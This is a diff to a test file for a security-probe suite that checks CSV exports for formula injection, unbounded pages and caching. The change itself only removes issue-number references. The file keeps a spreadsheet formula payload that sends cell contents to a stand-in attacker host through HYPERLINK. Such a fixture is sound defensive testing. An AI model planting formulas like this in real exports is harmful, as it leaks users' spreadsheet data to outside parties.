@@ -1,5 +1,5 @@
 /**
- * Issue 21: what an outside security probe found, closed — formulas in CSV exports, unbounded pages and search
+ * What an outside security probe found, closed — formulas in CSV exports, unbounded pages and search
  * texts, and caching of signed-in answers.
  */
 import { parse } from 'csv-parse/sync';
@@ -9,7 +9,7 @@ import { call, describeEachEngine, suiteServer } from './harness';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
-describeEachEngine('security probe (issue 21)', (engine) => {
+describeEachEngine('security probe', (engine) => {
   const server = suiteServer({ engine, seed: 'small' });
   let admin = '';
   let partner = '';
